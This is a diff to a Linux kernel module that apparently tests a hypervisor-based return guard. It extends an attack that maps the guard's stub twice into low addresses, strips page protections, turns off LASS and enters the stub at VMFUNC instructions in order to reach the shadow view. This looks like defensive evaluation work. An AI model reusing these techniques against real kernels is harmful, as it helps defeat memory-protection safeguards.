@@ -1,12 +1,17 @@
 // SPDX-License-Identifier: GPL-2.0
 /*
- * The return guard's stub as 32-bit code
+ * The return guard's stub at other addresses, and as 32-bit code
  *
- * Kernel mode can be compatibility mode. For the time of the attack the stub's page is
- * in the first 4 GiB of the caller's addresses, as code of the kernel's, and so is a page
- * of the caller's for a stack. It is entered at the VMFUNC to the shadow view; what
- * comes behind is other instructions then. Where it raises an exception, a die notifier
- * has it come back.
+ * For the time of the attack the stub's page is twice, one behind the other, in the first
+ * 4 GiB of the caller's addresses, as code of the kernel's, and so is a page of the
+ * caller's for a stack.
+ *
+ * Kernel mode can be compatibility mode: entered at the VMFUNC to the shadow view, what
+ * comes behind is other instructions then. Or it is entered at the page's end, which is a
+ * VMFUNC, too: what comes behind is the page's beginning then. Were that an exception, it
+ * would be delivered in the shadow view, to a stack of the attacker's choice.
+ *
+ * A die notifier has it come back.
  */
 #include <linux/irqflags.h>
 #include <linux/kdebug.h>
@@ -15,6 +20,7 @@
 #include <linux/sched.h>
 #include <asm/ptrace.h>
 #include <asm/segment.h>
+#include <asm/trapnr.h>
 
 #include "attack_module.h"
 #include "layout.h"
@@ -22,17 +28,19 @@
 #define VMFUNC_LENGTH	3
 
 static struct task_struct *attacker;
+static u64 vector;
 
 static int come_back(struct notifier_block *block, unsigned long event, void *data)
 {
 	struct die_args *args = data;
 	struct pt_regs *regs = args->regs;
 
-	if (current != attacker || regs->cs != __KERNEL32_CS)
+	if (current != attacker || regs->ip >= TASK_SIZE_MAX)
 		return NOTIFY_DONE;
-	regs->ip = (u64)attack_left_32;
+	vector = args->trapnr;
+	regs->ip = (u64)attack_left;
 	regs->cs = __KERNEL_CS;
-	regs->sp = attack_stack_32;
+	regs->sp = attack_stack;
 	return NOTIFY_STOP;
 }
 
@@ -41,58 +49,73 @@ static struct notifier_block notifier = {
 	.priority = INT_MAX,
 };
 
-/* Interrupts are off. */
-static void run(u64 va, u64 stub, u64 stub_pa)
-{
-	u64 *top = attack_top_entry(va), *code, *stack;
-	u64 old_top = *top, old_code, old_stack, pa;
-	u64 cr4 = raw_read_cr4();
-	unsigned int level;
+enum {
+	STUB,
+	STUB_AGAIN,
+	STACK,
+	PAGES,
+};
 
-	code = attack_entry(va, &pa, &level);
-	stack = attack_entry(va + PAGE_SIZE, &pa, &level);
-	if (!code || !stack)
-		return;
-	old_code = *code;
-	old_stack = *stack;
+/* Interrupts are off. */
+static void run(u64 va, u64 from, u64 stub_pa, u64 cs)
+{
+	u64 code = (stub_pa & ENTRY_FRAME) | _PAGE_PRESENT | _PAGE_ACCESSED;
+	u64 *top = attack_top_entry(va), *entry[PAGES], old[PAGES];
+	u64 old_top = *top, cr4 = raw_read_cr4(), pa;
+	unsigned int i, level;
+
+	for (i = 0; i < PAGES; i++) {
+		entry[i] = attack_entry(va + i * PAGE_SIZE, &pa, &level);
+		if (!entry[i])
+			return;
+		old[i] = *entry[i];
+	}
 	attack_set_entry(top, old_top & ~_PAGE_NX, va);
-	attack_set_entry(code, (stub_pa & ENTRY_FRAME) | _PAGE_PRESENT |
-			       _PAGE_ACCESSED, va);
-	attack_set_entry(stack, old_stack & ~(u64)_PAGE_USER, va + PAGE_SIZE);
+	for (i = 0; i < PAGES; i++)
+		attack_set_entry(entry[i],
+				 i == STACK ? old[i] & ~(u64)_PAGE_USER : code,
+				 va + i * PAGE_SIZE);
 	if (cr4 & CR4_LASS)
 		raw_write_cr4(cr4 & ~CR4_LASS);
 	attacker = current;
-	attack_enter_32(va + offset_in_page(stub) - VMFUNC_LENGTH,
-			va + 2 * PAGE_SIZE - 256, VIEW_SHADOW);
+	attack_enter(va + from, va + PAGES * PAGE_SIZE - 256, VIEW_SHADOW, cs);
 	attacker = NULL;
 	if (cr4 & CR4_LASS)
 		raw_write_cr4(cr4);
-	attack_set_entry(stack, old_stack, va + PAGE_SIZE);
-	attack_set_entry(code, old_code, va);
+	for (i = PAGES; i-- > 0; )
+		attack_set_entry(entry[i], old[i], va + i * PAGE_SIZE);
 	attack_set_entry(top, old_top, va);
 }
 
+static const struct {
+	const char *symbol;	/* what comes behind a VMFUNC */
+	u16 cs;
+} parts[] = {
+	[ATTACK_STUB_32 - ATTACK_STUB_32] = { "returns_shadow_begin", __KERNEL32_CS },
+	[ATTACK_STUB_CHOKE_32 - ATTACK_STUB_32] = { "returns_shadow_choke", __KERNEL32_CS },
+	[ATTACK_STUB_TWICE - ATTACK_STUB_32] = { "returns_stored", __KERNEL_CS },
+};
+
 static void perform(struct attack_request *q)
 {
-	u64 stub = attack_symbol(q->attack == ATTACK_STUB_32 ?
-				 "returns_shadow_begin" : "returns_shadow_choke");
-	unsigned int level;
+	unsigned int i = q->attack - ATTACK_STUB_32, level;
+	u64 from = attack_symbol(parts[i].symbol) - VMFUNC_LENGTH;
 	unsigned long flags;
 	u64 pa;
 
-	if (!stub || !attack_entry(stub, &pa, &level))
+	if (!attack_entry(from, &pa, &level))
 		return;
 	register_die_notifier(&notifier);
 	local_irq_save(flags);
-	run(q->argument, stub, pa);
+	run(q->argument, offset_in_page(from), pa, parts[i].cs);
 	local_irq_restore(flags);
 	unregister_die_notifier(&notifier);
-	/* That it comes back at all is by an exception. */
-	q->effect = ATTACK_RAISED_FAULT;
+	/* That it comes back at all is by an exception: what there is without VMX, or worse. */
+	q->effect = vector == X86_TRAP_BP ? ATTACK_SUCCEEDED : ATTACK_RAISED_FAULT;
 }
 
 const struct attack_group attack_stub = {
 	.first = ATTACK_STUB_32,
-	.last = ATTACK_STUB_CHOKE_32,
+	.last = ATTACK_STUB_TWICE,
 	.perform = perform,
 };
